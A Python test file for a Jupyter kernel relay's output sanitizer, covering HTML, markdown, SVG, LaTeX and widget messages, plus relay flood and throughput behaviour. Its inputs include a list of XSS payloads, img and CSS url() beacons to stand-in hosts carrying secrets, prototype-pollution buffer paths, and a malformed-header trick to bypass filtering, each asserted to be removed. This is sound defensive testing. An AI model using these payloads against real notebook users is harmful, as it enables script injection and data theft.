"""The output policy and the message relay, without a VM: a real ipykernel on the host is the
message source (standing in for the guest's), our relay sits between it and a real
jupyter_client. What reaches the client is what a browser would render. The end-to-end
proof in a browser is tests/test_browser_outputs.py."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os

import pytest
import zmq
from jupyter_client.manager import AsyncKernelManager

from smol_kernel.guest.protocol import CHANNEL_PORTS
from smol_kernel.ioloop import on_io_loop
from smol_kernel.relay import KernelRelay
from smol_kernel.relay.message_pump import MessageGate
from smol_kernel.relay.output_policy import OutputPolicy, sanitize_bundle, sanitize_html
from smol_kernel.relay.widget_policy import WIDGET_MODELS, WIDGET_TARGETS

from .kernel_helpers import rss_mib, run_cell
from .web_helpers import listening_relay

HOSTILE_HTML = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    "<svg onload='window.pwned=1'><script>window.pwned=1</script></svg>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<a href='javascript:window.pwned=1'>x</a>",
    "<a href=' JaVaScRiPt:window.pwned=1'>x</a>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='javascript:window.pwned=1'>",
    "<form action='javascript:window.pwned=1'><button>x</button></form>",
    "<meta http-equiv='refresh' content='0;url=javascript:window.pwned=1'>",
    "<base href='javascript:window.pwned=1//'>",
    "<div style='background:url(javascript:window.pwned=1)'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
]


def _dangerous(html: str) -> list[str]:
    low = html.lower()
    return [w for w in ("<script", "onerror", "onload", "javascript:", "<iframe", "<object",
                        "<embed", "<form", "<meta", "<base", "<svg", "<style", "url(")
            if w in low]  # fmt: skip


# ---------------------------------------------------------------- the policy itself
@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_loses_everything_that_runs(html):
    out = sanitize_html(html)
    assert _dangerous(out) == [], out


def test_a_dataframe_table_and_plain_formatting_survive():
    table = (
        "<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;">'
        "<th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>1.5</td></tr></tbody>"
        "</table></div><p><b>bold</b> <a href='https://example.org/x'>link</a></p>"
    )
    out = sanitize_html(table)
    for kept in ("<table", 'class="dataframe"', "<th>a</th>", "<td>1.5</td>",
                 "text-align:", "<b>bold</b>", 'href="https://example.org/x"'):  # fmt: skip
        assert kept in out, (kept, out)
    assert "<style" not in out


def test_nothing_is_loaded_from_elsewhere_but_data_images_are_shown():
    out = sanitize_html(
        '<img src="https://evil.example/?secret=1"><img src="//evil.example/x">'
        '<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<b>x">'
    )
    assert "evil.example" not in out and "text/html" not in out, out
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out


def test_script_types_are_replaced_by_a_note_and_safe_types_kept():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
    data, metadata = sanitize_bundle(
        {"application/javascript": "window.pwned=1", "text/plain": "<Figure>",
         "image/png": png, "application/vnd.bokehjs_exec.v0+json": {},
         "application/x-unknown": "x", "application/json": {"a": [1, 2]},
         "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2}},
        {"image/png": {"width": 100, "isolated": True}, "isolated": True},
    )  # fmt: skip
    assert set(data) == {"text/plain", "image/png", "application/json",
                         "application/vnd.jupyter.widget-view+json"}  # fmt: skip
    assert data["image/png"] == png
    assert data["text/plain"].startswith("<Figure>\n[smol-kernel: not shown: ")
    note = data["text/plain"]
    assert "application/javascript" in note and "trusted_outputs" in note
    assert metadata == {"image/png": {"width": 100}}


def test_markdown_without_markup_stays_markdown():
    for text in ("**bold** and [a link](https://example.org)", "# Title\n\n- item\n"):
        assert sanitize_bundle({"text/markdown": text})[0] == {"text/markdown": text}
    for text in ("[x](JavaScript:alert(1))", "[x](java\\script:alert(1))", "a &lt; b",
                 "![beacon](https://evil.example/x.png)", "<b>html</b>"):  # fmt: skip
        data = sanitize_bundle({"text/markdown": text})[0]
        assert set(data) == {"text/html"} and _dangerous(data["text/html"]) == [], data
        assert "evil.example" not in data["text/html"]


def test_markdown_is_rendered_and_sanitized_and_svg_shown_as_an_image():
    data, _ = sanitize_bundle({"text/markdown": "# Title\n\n<img src=x onerror=alert(1)> "
                               "[a](javascript:alert(1)) `<b>` $x_1$"})  # fmt: skip
    html = data["text/html"]
    assert "<h1>Title" in html and "<code>&lt;b&gt;</code>" in html and "x_1" in html
    assert _dangerous(html) == [], html
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><circle r='4'/></svg>"
    data, _ = sanitize_bundle({"image/svg+xml": svg, "text/plain": "<svg>"})
    assert "image/svg+xml" not in data
    src = data["text/html"].split('src="', 1)[1].split('"', 1)[0]
    assert src.startswith("data:image/svg+xml;base64,")
    assert base64.b64decode(src.split(",", 1)[1]).decode() == svg  # shown as it was, in <img>


def test_typeset_math_cannot_make_links_or_macros():
    data, _ = sanitize_bundle({"text/latex": r"$\href{javascript:alert(1)}{x} \def\h{\url}$",
                               "text/html": r"<p>$\href{javascript:alert(1)}{y}$</p>"})  # fmt: skip
    for value in data.values():
        assert "\\href{" not in value and "\\def" not in value and "\\url" not in value, value


def test_help_links_and_comms_and_widget_html():
    policy = OutputPolicy(targets=frozenset({"jupyter.widget"}))
    info = policy.filter("kernel_info_reply", {"help_links": [
        {"text": "ok", "url": "https://docs.python.org"},
        {"text": "bad", "url": "javascript:alert(1)"},
        {"text": "data", "url": "data:text/html,x"}]})  # fmt: skip
    assert info["help_links"] == [{"text": "ok", "url": "https://docs.python.org"}]
    assert policy.filter("comm_open", {"comm_id": "c1", "target_name": "bokeh", "data": {}}) is None
    state = {"_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls",
             "value": "<img src=x onerror=alert(1)>", "description_allow_html": True}  # fmt: skip
    opened = policy.filter("comm_open", {"comm_id": "c2", "target_name": "jupyter.widget",
                                         "data": {"state": state}})  # fmt: skip
    state = opened["data"]["state"]
    assert "onerror" not in state["value"] and state["description_allow_html"] is False
    update = policy.filter("comm_msg", {"comm_id": "c2", "data": {
        "method": "update", "state": {"value": "<script>x</script>"}}})  # fmt: skip
    assert "<script" not in update["data"]["state"]["value"]
    # a label model shown through the HTML view: not a widget ipywidgets makes
    label = {"_model_name": "LabelModel", "_model_module": "@jupyter-widgets/controls",
             "_view_name": "HTMLView", "value": "x"}  # fmt: skip
    assert _widget(policy, "c3", label) is None
    assert _widget(policy, "c3", {"value": "<img src=x onerror=alert(1)>"}, "comm_msg") is None
    no_frontend = OutputPolicy(targets=frozenset())
    widget = {"comm_id": "c", "target_name": "jupyter.widget"}
    assert no_frontend.filter("comm_open", widget) is None


def _widget(policy, comm_id, state, method="comm_open"):
    """A widget message; a comm_open's state gets its model's module unless it names one."""
    if method == "comm_open" and state.get("_model_name") in WIDGET_MODELS:
        state = {"_model_module": WIDGET_MODELS[state["_model_name"]][0], **state}
    if method == "comm_open":
        content = {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {"state": state}}
    else:
        content = {"comm_id": comm_id, "data": {"method": "update", "state": state}}
    return policy.filter(method, content)


@pytest.mark.parametrize("model", ["ImageModel", "VideoModel", "AudioModel"])
def test_a_widget_cannot_make_the_browser_fetch_a_url(model):
    """Issue 30: an Image widget of format "url" has the browser load its value as a URL,
    and a layout or style value can be ``url(...)``: a kernel with no network could send
    data out through the user's browser. Control: a PNG image and plain styles pass."""
    policy = OutputPolicy(targets=frozenset({"jupyter.widget"}))
    png = _widget(policy, "img", {"_model_name": model, "format": "png", "width": "10"})
    assert png["data"]["state"]["format"] == "png", "the probe: an ordinary image passes"
    assert _widget(policy, "img", {"format": "URL "}, "comm_msg") is None
    assert _widget(policy, "new", {"_model_name": model, "format": "url"}) is None
    assert _widget(policy, "png", {"_model_name": "ImageModel", "format": "png"}) is not None


@pytest.mark.parametrize("value", [
    "url(https://evil.test/?d=secret)", "no-repeat URL('//evil.test/x')",
    "image-set('https://evil.test/a.png' 1x)", "u\\72l(https://evil.test/)",
    "-webkit-image-set(url(x) 1x)", "cross-fade(url(a), url(b), 50%)", "src(x)",
    "url /**/(x)",
])  # fmt: skip
def test_layout_and_style_values_that_load_a_url_are_removed(value):
    policy = OutputPolicy(targets=frozenset({"jupyter.widget"}))
    safe = {"width": "calc(100% - 2px)", "border": "1px solid rgb(1, 2, 3)", "margin": "0"}
    opened = _widget(policy, "lay", {"_model_name": "LayoutModel", **safe, "background": value})
    assert opened["data"]["state"] == {"_model_module": "@jupyter-widgets/base",
                                       "_model_name": "LayoutModel", **safe}  # fmt: skip
    style = _widget(policy, "sty", {"_model_name": "HTMLStyleModel", "background": "red"})
    assert style["data"]["state"]["background"] == "red", "the probe: a color passes"
    update = _widget(policy, "sty", {"background": value, "font_size": "12px"}, "comm_msg")
    assert update["data"]["state"] == {"font_size": "12px"}
    # text in any other model is text: it may say url(...)
    text = _widget(policy, "txt", {"_model_name": "TextModel", "value": value})
    assert text["data"]["state"]["value"] == value


# ---------------------------------------------------------------- through the relay
class RelayedKernel:
    """A local ipykernel behind our relay (the kernel's ports stand in for the guest's)."""

    def __init__(self, km: AsyncKernelManager, relay: KernelRelay, info: dict) -> None:
        self.km, self.relay, self.info = km, relay, info

    def client(self, **kwargs):
        ports = {f"{ch}_port": self.info[f"{ch}_port"] for ch in CHANNEL_PORTS}
        kc = self.km.client(**ports, **kwargs)
        kc.start_channels()
        return kc


@contextlib.asynccontextmanager
async def relayed_kernel(trusted: bool = False, backlog: int = 256 << 20):
    km = AsyncKernelManager(kernel_name="python3")
    await km.start_kernel()
    info = km.get_connection_info()
    kernel_ports = {ch: int(info[f"{ch}_port"]) for ch in CHANNEL_PORTS}
    policy = None if trusted else OutputPolicy()
    gate = MessageGate(key=info["key"], signature_scheme=info["signature_scheme"],
                       policy=policy, iopub_backlog=backlog)  # fmt: skip
    relay, host_ports = listening_relay(gate)
    by_vport = {CHANNEL_PORTS[ch]: port for ch, port in kernel_ports.items()}

    async def open_stream(vport: int, timeout: float = 5.0):
        return await asyncio.open_connection("127.0.0.1", by_vport[vport], limit=1 << 20)

    async def serve():
        await relay.start_serving(open_stream)

    await on_io_loop(serve())
    try:
        yield RelayedKernel(km, relay, {**info, **{f"{c}_port": p for c, p in host_ports.items()}})
    finally:
        await on_io_loop(relay.close())
        await km.shutdown_kernel(now=True)


HOSTILE_CELL = r"""
from IPython.display import display, HTML, Javascript, SVG, Markdown
display(Javascript("window.pwned = 1"))
display(HTML("<img src=x onerror='window.pwned=1'><b>kept</b>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'></svg>"))
display(Markdown("<img src=x onerror='window.pwned=1'> **md**"))
get_ipython().payload_manager.write_payload(
    {"source": "page", "data": {"text/html": "<script>window.pwned=1</script>page"}})
"""


async def test_a_client_gets_sanitized_outputs_signed_with_the_kernel_key():
    async with relayed_kernel() as k:
        kc = k.client()
        try:
            await kc.wait_for_ready(timeout=60)
            replies = []
            reply = await kc.execute_interactive(
                HOSTILE_CELL, timeout=60, output_hook=lambda m: replies.append(m)
            )
            bundles = [m["content"]["data"] for m in replies if m["msg_type"] == "display_data"]
            assert len(bundles) == 4, replies  # (every one verified against the key)
            text = json.dumps(bundles)
            assert _dangerous(text) == [], text
            assert "<b>kept</b>" in text and "<strong>md</strong>" in text
            assert "application/javascript" in bundles[0]["text/plain"]
            page = reply["content"]["payload"][0]["data"]
            assert _dangerous(json.dumps(page)) == [] and "page" in page["text/html"]
            # kernel_info's help links; the kernel's own are kept
            r = await run_cell(kc, "get_ipython().kernel.help_links = "
                               "[{'text': 'x', 'url': 'javascript:window.pwned=1'}]")  # fmt: skip
            assert r.status == "ok"
            info = await kc.kernel_info(reply=True)
            assert info["content"]["help_links"] == []
        finally:
            kc.stop_channels()


async def test_trusted_outputs_pass_javascript_unchanged():
    """The positive control: the same cell with trusted_outputs shows what it sent."""
    async with relayed_kernel(trusted=True) as k:
        kc = k.client()
        try:
            await kc.wait_for_ready(timeout=60)
            seen = []
            await kc.execute_interactive(HOSTILE_CELL, timeout=60,
                                         output_hook=lambda m: seen.append(m))  # fmt: skip
            bundles = [m["content"]["data"] for m in seen if m["msg_type"] == "display_data"]
            assert bundles[0]["application/javascript"] == "window.pwned = 1"
            assert "onerror" in bundles[1]["text/html"]
        finally:
            kc.stop_channels()


FLOOD = r"""
import sys, threading
def flood():
    for _ in range({n}):
        sys.stdout.write("x" * {size})
        sys.stdout.flush()
threading.Thread(target=flood, daemon=True).start()
"""


async def test_a_client_that_does_not_read_cannot_make_the_host_hold_the_flood():
    """A thread floods 8 MiB stream messages between cells while the client reads nothing:
    the relay holds at most its backlog cap (32 MiB here), drops the rest, and the client
    later gets one line saying what was dropped. Without the cap the client's socket
    would queue up to 1000 messages (8 GB)."""
    async with relayed_kernel(backlog=32 << 20) as k:
        ctx = zmq.asyncio.Context()
        ctx.setsockopt(zmq.RCVHWM, 4)
        kc = k.client(context=ctx)
        try:
            await kc.wait_for_ready(timeout=60)
            before = rss_mib()
            await kc.execute_interactive(FLOOD.format(n=60, size=8 << 20), timeout=60,
                                         output_hook=lambda m: None)  # fmt: skip
            gate = k.relay.gate
            loop = asyncio.get_running_loop()
            deadline = loop.time() + 120
            while gate.dropped_messages < 20 and loop.time() < deadline:
                await asyncio.sleep(0.5)
            grew = rss_mib() - before
            assert gate.dropped_messages >= 20, gate.dropped_messages
            assert gate.peak_backlog <= (32 + 9) << 20, gate.peak_backlog
            # relay backlog (32) + client queue (4 x 8) + a message in flight + slack
            assert grew < 32 + 4 * 8 + 8 + 60, f"host grew {grew:.0f} MiB"
            notices = []
            deadline = loop.time() + 120
            while not notices and loop.time() < deadline:
                with contextlib.suppress(Exception):
                    msg = await kc.get_iopub_msg(timeout=5)
                    if msg["msg_type"] == "stream" and "smol-kernel" in msg["content"]["text"]:
                        notices.append(msg["content"]["text"])
            assert notices and "dropped" in notices[0] and "iopub_backlog_mib" in notices[0]
        finally:
            kc.stop_channels()
            ctx.destroy(linger=0)


# ---------------------------------------------------------------- a kernel that lies
UNREADABLE_HEADER_CELL = r"""
k = get_ipython().kernel
saved = k.session.username
k.session.username = {username!r}
try:
    k.session.send(k.iopub_socket, "display_data", {{
        "data": {{"application/javascript": "window.pwned = 1",
                 "text/html": "<script>window.pwned = 1</script><img src=x onerror=x>PROBE"}},
        "metadata": {{}}, "transient": {{}}}}, parent=k.get_parent())
finally:
    k.session.username = saved
"""


@pytest.mark.parametrize("username", ["\udcff", "ordinary"])
async def test_a_cell_cannot_send_output_past_the_policy_with_an_unreadable_header(username):
    """Issue 30: a lone surrogate as the session's username is packed as the byte 0xff, the
    header is no longer UTF-8, and the old relay passed such a message unfiltered (clients
    decode it leniently and ran its script). Now it is dropped and counted. Control: the
    same cell with an ordinary username sends its output, filtered -- the probe works."""
    async with relayed_kernel() as k:
        kc = k.client()
        try:
            await kc.wait_for_ready(timeout=60)
            seen = []
            reply = await kc.execute_interactive(
                UNREADABLE_HEADER_CELL.format(username=username), timeout=60,
                output_hook=lambda m: seen.append(m),
            )  # fmt: skip
            assert reply["content"]["status"] == "ok", reply["content"]
            shown = [m for m in seen if m["msg_type"] == "display_data"]
            text = json.dumps([m["content"] for m in shown])
            assert "application/javascript" not in text.replace("not shown: application", "")
            assert _dangerous(text) == [], text
            if username == "ordinary":
                assert len(shown) == 1 and "PROBE" in text and k.relay.gate.rejected == 0
            else:
                assert shown == [] and k.relay.gate.rejected == 1
        finally:
            kc.stop_channels()


@pytest.mark.skipif(os.environ.get("SMOL_SKIP_SLOW"), reason="SMOL_SKIP_SLOW is set")
async def test_relay_throughput_of_a_large_output_is_kept():
    """50 MB printed in 1 MiB messages passes the message relay whole and in order."""
    async with relayed_kernel() as k:
        kc = k.client()
        try:
            await kc.wait_for_ready(timeout=60)
            r = await run_cell(kc, "import sys\nfor i in range(50):\n"
                               "    sys.stdout.write(str(i % 10) * 1_000_000); sys.stdout.flush()",
                               timeout=120)  # fmt: skip
            assert len(r.stdout) == 50_000_000
            assert r.stdout[:1_000_000] == "0" * 1_000_000 and r.stdout[-1] == "9"
        finally:
            kc.stop_channels()


XSS = "<img src=x onerror=alert(1)>"
CONTROLS = "@jupyter-widgets/controls"


def test_widgets_cannot_carry_markup_into_the_page_another_way():
    """Review of issue 30: each widget value was checked alone, but the page combines
    them: a DirectionalLink copied a Text model's raw value into an HTML model, a
    third-party module's model had no check at all, an update could rename a model's view,
    buffers went wherever their paths said. Control: the same values where they are text."""
    policy = OutputPolicy(targets=WIDGET_TARGETS)
    text = _widget(policy, "t", {"_model_name": "TextModel", "value": XSS})
    assert text["data"]["state"]["value"] == XSS, "the probe: a Text value is text"
    assert _widget(policy, "h", {"_model_name": "HTMLModel", "value": "ok"}) is not None
    link = {"source": ["IPY_MODEL_t", "value"], "target": ["IPY_MODEL_h", "value"]}
    for name in ("DirectionalLinkModel", "LinkModel"):
        assert _widget(policy, name, {"_model_name": name, **link}) is None, name
    for model, module in (("VueTemplateModel", "jupyter-vue"), ("HTMLModel", "evil-widgets"),
                          ("HTMLModel", None)):  # fmt: skip
        state = {"_model_name": model, "_model_module": module, "value": XSS, "template": XSS}
        assert _widget(policy, f"{model}{module}", state) is None, (model, module)
    for renamed in ({"_view_name": "HTMLView"}, {"_model_name": "HTMLModel"},
                    {"_view_module": "evil"}, {"__proto__": {"x": 1}}):  # fmt: skip
        assert _widget(policy, "t", renamed, "comm_msg") is None, renamed
    assert _widget(policy, "never-opened", {"value": XSS}, "comm_msg") is None
    label = _widget(policy, "lab", {"_model_name": "LabelModel", "value": r"\href{https://x}{a}",
                                    "description": r"\bbox[cursor:url(https://x)]{b}"})  # fmt: skip
    assert "\\href{" not in str(label) and "\\bbox[" not in str(label), "typeset: no links"
    img = _widget(policy, "img", {"_model_name": "ImageModel", "format": "png"})
    assert img is not None

    def buffers(comm_id, paths):
        return policy.filter("comm_msg", {"comm_id": comm_id, "data": {
            "method": "update", "state": {}, "buffer_paths": paths}})  # fmt: skip

    assert buffers("img", [["value"]]) is not None, "the probe: an image's bytes"
    for paths in ([["__proto__", "polluted"]], [["value", "constructor"]], [["format"]], "x",
                  [[True]]):  # fmt: skip
        assert buffers("img", paths) is None, paths
    assert buffers("h", [["value"]]) is None, "an HTML value is not binary"


def test_the_pages_request_for_every_widget_is_answered_by_the_same_rules():
    """Review of issue 30: the control comm's update_states (the kernel's answer when a page
    asks for every widget) was filtered as if it were one model's state: the models in it
    were never looked at. Now each entry is its own model's state, and the models it makes
    are known for later updates."""
    policy = OutputPolicy(targets=WIDGET_TARGETS)

    def entry(name, state, module=CONTROLS):
        return {"model_name": name, "model_module": module, "model_module_version": "2.0.0",
                "state": state}  # fmt: skip

    def update_states(states, paths=None):
        return policy.filter("comm_msg", {"comm_id": "control", "data": {
            "method": "update_states", "states": states, "buffer_paths": paths or {}}})  # fmt: skip

    out = update_states({"m1": entry("HTMLModel", {"value": XSS}),
                         "m2": entry("TextModel", {"value": XSS})})  # fmt: skip
    states = out["data"]["states"]
    assert "onerror" not in states["m1"]["state"]["value"], states
    assert states["m2"]["state"]["value"] == XSS, "the probe: text passes as it was"
    later = _widget(policy, "m1", {"value": XSS}, "comm_msg")
    assert "onerror" not in later["data"]["state"]["value"], "m1 is known as an HTML model"
    for bad in ({"m3": entry("DirectionalLinkModel", {"source": ["IPY_MODEL_m2", "value"]})},
                {"m4": entry("VueTemplateModel", {"template": XSS}, "jupyter-vue")},
                {"m1": entry("TextModel", {})},
                {"m5": entry("TextModel", {"_view_name": "HTMLView"})},
                {"m6": {"state": {"_model_name": "HTMLModel", "value": XSS}}}):  # fmt: skip
        assert update_states(bad) is None, bad
    assert update_states({"m7": entry("ImageModel", {"format": "url", "value": "x"})}) is None
    proto = {"m8": [["__proto__", "x"]]}
    assert update_states({"m8": entry("ImageModel", {"format": "png"})}, proto) is None
    assert update_states({"m8": entry("ImageModel", {"format": "png"})}, {"m8": [["value"]]})


def test_markdown_is_rendered_within_bounds():
    """Review of issue 30: reference links repeat a long URL for every 4-byte use, so 22 KB
    of markdown made 10 MB of HTML on the relay's loop. Now what would grow past the bound
    (or is larger than MAX_MARKDOWN_RENDERED) is shown as its text. Control: the same
    reference link used a few times is rendered."""
    from smol_kernel.relay.mime_bundle import MAX_MARKDOWN_RENDERED

    definition = "[x]: http://a.test/" + "A" * 2000 + "\n\n"
    markup = "<b>rendered here, not by the browser</b>\n\n"
    few = sanitize_bundle({"text/markdown": markup + definition + "[x] " * 3})[0]
    assert few["text/html"].count("<a ") == 3, "the probe: a reference link renders"
    bomb = markup + definition + "[x] " * 5000
    out = sanitize_bundle({"text/markdown": bomb})[0]
    assert "text/html" not in out and out["text/plain"] == bomb
    big = "<b>x</b> " * (MAX_MARKDOWN_RENDERED // 9 + 1)
    assert sanitize_bundle({"text/markdown": big, "text/plain": "p"})[0] == {"text/plain": "p"}
